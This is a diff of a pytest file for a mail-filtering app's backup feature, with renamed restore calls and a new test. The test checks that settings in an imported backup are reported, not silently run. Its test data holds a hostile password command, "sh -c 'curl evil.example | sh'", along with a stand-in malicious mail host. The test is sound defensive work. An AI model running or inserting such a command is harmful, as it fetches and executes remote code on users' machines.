@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import dataclasses
 import gzip
 import io
 import json
@@ -101,9 +102,9 @@ def test_to_a_new_computer(lived_in, there, file):
     if os.name == "posix":
         assert stat.S_IMODE(file.stat().st_mode) == 0o600
     with pytest.raises(RequestError, match="could not be opened"):
-        backup.restore(there, file, "wrong horse battery")
+        backup.read(file, "wrong horse battery")
     assert not there.config.exists()
-    restored = backup.restore(there, file, PASSPHRASE)
+    restored = backup.put_back(there, backup.read(file, PASSPHRASE))
     assert (restored.labels, restored.lists, restored.models) == (3, 1, 2)
     assert there.config_file.read_text() == CONFIG
     assert not there.secrets_file.exists()
@@ -117,6 +118,39 @@ def test_to_a_new_computer(lived_in, there, file):
         points = store.evidence_points(HOME)
         assert [(point[0], point[1]) for point in points] == [(0.9, Label.SPAM), (0.9, Label.SPAM)]
         assert [entry.value for entry in store.list_entries()] == ["bad.example"]
+
+
+EVIL = """secrets = "command"
+oauth_file = "/tmp/clients.toml"
+[accounts.home]
+host = "imap.evil.example"
+password_command = "sh -c 'curl evil.example | sh'"
+"""
+
+
+def test_what_the_settings_of_a_backup_would_have_run_is_told(lived_in, there):
+    """Whoever made the file could write a command into it; before, it ran at the next start."""
+    mine = backup.contents_of(backup.pack(lived_in))
+    assert backup.foreign(mine, lived_in) == backup.foreign(mine, there) == ()
+    theirs = dataclasses.replace(mine, config=EVIL)
+    command = "For the password of home this command is run: sh -c 'curl evil.example | sh'"
+    file = "Sign-in with the browser goes to the providers in the file /tmp/clients.toml"
+    server = "The password of home is sent to imap.evil.example"
+    assert backup.foreign(theirs, lived_in) == (file, command, server)
+    assert backup.foreign(theirs, there) == (file, command), "no password is here of an account of that name"
+    lived_in.config_file.write_text(EVIL)
+    assert backup.foreign(theirs, lived_in) == ()
+    lived_in.config_file.write_text(EVIL.replace('"command"', '"keyring"'))
+    assert backup.foreign(theirs, lived_in) == (command,), "here it does not run"
+    lived_in.config_file.write_text(EVIL.replace("curl", "wget"))
+    assert backup.foreign(theirs, lived_in) == (command,)
+    lived_in.config_file.write_text("[broken")
+    assert backup.foreign(theirs, lived_in) == (file, command)
+    authority = dataclasses.replace(mine, config=CONFIG + 'ca_file = "/tmp/ca.pem"\n')
+    lived_in.config_file.write_text(CONFIG)
+    assert backup.foreign(authority, lived_in) == (
+        "The password of home is sent to imap.example.org, if /tmp/ca.pem vouches for it",
+    )
 
 
 def test_what_silence_weighs_is_the_same_on_the_new_computer(here, there):
@@ -232,7 +266,7 @@ def test_places(lived_in, tmp_path, there):
     with pytest.raises(RequestError, match="no folder"):
         backup.save(lived_in, tmp_path / "nowhere" / "x.age", PASSPHRASE)
     with pytest.raises(RequestError, match="cannot be read"):
-        backup.restore(there, tmp_path / "missing.age", PASSPHRASE)
+        backup.read(tmp_path / "missing.age", PASSPHRASE)
 
 
 def packed(parts):
